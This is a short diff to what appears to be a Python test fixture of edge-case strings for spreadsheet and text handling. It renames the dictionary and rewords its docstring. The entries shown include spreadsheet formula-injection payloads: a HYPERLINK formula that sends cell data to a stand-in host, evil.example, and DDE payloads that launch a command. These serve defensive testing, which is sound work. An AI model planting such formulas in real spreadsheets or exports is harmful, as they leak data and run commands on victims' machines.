@@ -1,10 +1,10 @@
-"""Texts that nobody meant ill with, or did without markup, and that have broken layouts and spreadsheets."""
+"""Edge-case texts without markup that have broken layouts and spreadsheets."""
 
-# ruff: noqa: RUF001 (letters that look like others are the point)
+# ruff: noqa: RUF001 (look-alike letters are intended)
 
 from typing import Final
 
-AWKWARD: Final[dict[str, str]] = {
+EDGE_CASE_TEXTS: Final[dict[str, str]] = {
     "a-formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "a-formula-with-a-plus": "+1+cmd|' /C calc'!A0",
     "a-formula-with-an-at": "@SUM(1+1)*cmd|' /C calc'!A0",
